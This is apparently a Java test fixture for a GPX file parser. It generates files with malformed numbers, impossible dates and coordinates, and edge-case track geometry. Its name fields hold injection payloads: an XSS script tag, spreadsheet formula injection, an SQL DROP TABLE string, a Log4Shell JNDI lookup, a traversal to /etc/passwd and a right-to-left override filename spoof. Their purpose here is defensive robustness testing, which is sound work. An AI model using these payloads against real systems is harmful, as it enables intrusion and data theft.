package io.trekpoint.worker.gpx;

import static io.trekpoint.worker.gpx.HostileFiles.GPX;

import java.util.List;

/** Well-formed GPX with values, lines and names that no program writes and means well. */
final class HostileContent {

    private HostileContent() {}

    static void addTo(HostileFiles files) {
        numbers(files);
        geometry(files);
        names(files);
    }

    private static void numbers(HostileFiles files) {
        for (String number :
                List.of(
                        "NaN",
                        "Infinity",
                        "-Infinity",
                        "0x1p3",
                        "47.0d",
                        "47f",
                        "1e999",
                        "4,5",
                        "",
                        "1__0",
                        "\u0664\u0665",
                        "+",
                        ".",
                        "1e",
                        "--1")) {
            files.read(
                    "the number '" + number + "'",
                    GPX
                            + "<wpt lat='"
                            + number
                            + "' lon='1'/><wpt lat='1' lon='"
                            + number
                            + "'/><wpt lat='1' lon='2'><ele>"
                            + number
                            + "</ele><hdop>"
                            + number
                            + "</hdop><sat>"
                            + number
                            + "</sat><extensions><hr>"
                            + number
                            + "</hr></extensions></wpt></gpx>");
        }
        files.read(
                "places off the earth",
                GPX
                        + "<wpt lat='90.0001' lon='0'/><wpt lat='1' lon='361'/>"
                        + "<wpt lat='-1e300' lon='1'/><wpt lat='1' lon='-180.5'/></gpx>");
        files.read(
                "times that are none",
                GPX
                        + "<trk><trkseg>"
                        + times(
                                "0000-00-00T00:00:00Z",
                                "2026-13-01T00:00:00Z",
                                "10000-01-01T00:00:00Z",
                                "2026-01-01",
                                "now",
                                "9999-12-31T23:59:59.999Z",
                                "0000-01-01T00:00:00Z",
                                "2026-01-01T24:00:00+18:00")
                        + "</trkseg></trk></gpx>");
    }

    private static String times(String... times) {
        var points = new StringBuilder();
        for (String time : times) {
            points.append("<trkpt lat='1' lon='2'><time>").append(time).append("</time></trkpt>");
        }
        return points.toString();
    }

    private static void geometry(HostileFiles files) {
        files.read("no points", GPX + "<trk><trkseg/></trk><trk/><rte/></gpx>");
        files.read("one point", GPX + line("46 8") + "</gpx>");
        files.read("poles", GPX + line("90 0", "90 180", "-90 -180", "89.999 90") + "</gpx>");
        files.read("antipodes", GPX + line("0 0", "0 180", "45 10", "-45 -170") + "</gpx>");
        files.read(
                "the dateline",
                GPX + line("1 179", "1 -179", "1 180", "1 -180", "1 179") + "</gpx>");
        files.read(
                "the same point many times",
                HostileFiles.many(
                        GPX + "<trk><trkseg>",
                        i -> "<trkpt lat='46' lon='8'><ele>1</ele></trkpt>",
                        "</trkseg></trk></gpx>"));
        files.read(
                "a saw through a zone",
                HostileFiles.many(
                        GPX + "<trk><trkseg>",
                        i ->
                                i < 9_000
                                        ? "<trkpt lat='46' lon='"
                                                + (i % 2 == 0 ? "7.9" : "8.1")
                                                + "'/>"
                                        : "",
                        "</trkseg></trk></gpx>"));
        files.read(
                "times reversed and equal",
                GPX
                        + "<trk><trkseg>"
                        + times(
                                "2026-01-01T00:00:03Z",
                                "2026-01-01T00:00:02Z",
                                "2026-01-01T00:00:02Z",
                                "2026-01-01T00:00:01Z")
                        + "</trkseg></trk></gpx>");
    }

    private static String line(String... places) {
        var line = new StringBuilder("<trk><trkseg>");
        for (String place : places) {
            String[] latLon = place.split(" ");
            line.append(
                    "<trkpt lat='" + latLon[0] + "' lon='" + latLon[1] + "'><ele>5</ele></trkpt>");
        }
        return line.append("</trkseg></trk>").toString();
    }

    private static void names(HostileFiles files) {
        for (String name :
                List.of(
                        "&lt;script>alert(1)&lt;/script>",
                        "&lt;/name>&lt;x>",
                        "]]&gt;",
                        "=HYPERLINK(&quot;http://a.example&quot;)",
                        "@SUM(1)",
                        "+1",
                        "-1",
                        "a;=1+1",
                        "&#x202e;xpg.exe",
                        "&#x2028;&#x85;&#x7f;",
                        "'; DROP TABLE x; --",
                        "${jndi:ldap://a.example}",
                        "../../etc/passwd",
                        "&#x1F97E;")) {
            files.read(
                    "the name " + name,
                    GPX
                            + "<metadata><name>"
                            + name
                            + "</name><desc>"
                            + name
                            + "</desc></metadata><wpt lat='1' lon='2'><name>"
                            + name
                            + "</name></wpt>"
                            + "<rte><name>"
                            + name
                            + "</name><rtept lat='1' lon='2'/><rtept lat='2' lon='2'/>"
                            + "</rte><trk><name>"
                            + name
                            + "</name><desc>"
                            + name
                            + "</desc><trkseg><trkpt lat='1' lon='2'/><trkpt lat='1' lon='3'/></trkseg></trk></gpx>");
        }
    }
}
